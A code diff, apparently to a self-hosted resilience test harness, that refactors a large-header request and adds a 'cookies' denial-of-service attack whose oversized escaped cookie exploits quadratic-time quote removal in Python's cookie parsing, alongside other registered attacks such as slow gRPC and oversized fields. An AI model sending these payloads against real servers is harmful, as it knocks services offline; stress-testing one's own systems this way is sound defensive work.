@@ -129,9 +129,16 @@ def large_fields(spec: AttackSpec) -> Attack:
     async def attack(tally: Tally) -> None:
         await _calls(spec, calls, tally)
         for number in range(spec.count):
-            await _large_head(spec, number, tally)
+            await _request(spec, number, tally, b"GET /healthz HTTP/1.1\r\nX: " + b"x" * FIELD_BYTES)
 
     return attack
+
+
+def cookies(spec: AttackSpec) -> Attack:
+    """Cookies as large as a head may be, whose quotes Python removes in quadratic time."""
+    cookie = b'a="' + b"\\00" * 5_200 + b'"'
+    head = b"GET /v1/routes HTTP/1.1\r\nHost: collector\r\nCookie: %s\r\n\r\n" % cookie
+    return lambda tally: _each(spec.count, lambda number: _request(spec, number, tally, head))
 
 
 def guesses(spec: AttackSpec) -> Attack:
@@ -201,6 +208,7 @@ ATTACKS: dict[str, Callable[[AttackSpec], Attack]] = {
     "slow_grpc": lambda spec: lambda tally: _each(spec.count, lambda number: _slow_message(spec, number, tally)),
     "bombs": bombs,
     "large_fields": large_fields,
+    "cookies": cookies,
     "guesses": guesses,
     "junk_joins": junk_joins,
     "plans": plans,
@@ -273,9 +281,9 @@ async def _slow_message(spec: AttackSpec, number: int, tally: Tally) -> None:
     await _over_tls(parse_address(spec.grpc), spec, number, tally, trickle)
 
 
-async def _large_head(spec: AttackSpec, number: int, tally: Tally) -> None:
+async def _request(spec: AttackSpec, number: int, tally: Tally, head: bytes) -> None:
     async def send(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> str:
-        writer.write(b"GET /healthz HTTP/1.1\r\nX: " + b"x" * FIELD_BYTES)
+        writer.write(head)
         status = (await reader.readline()).split(b" ")
         return status[1].decode() if len(status) > 1 else "closed"
 
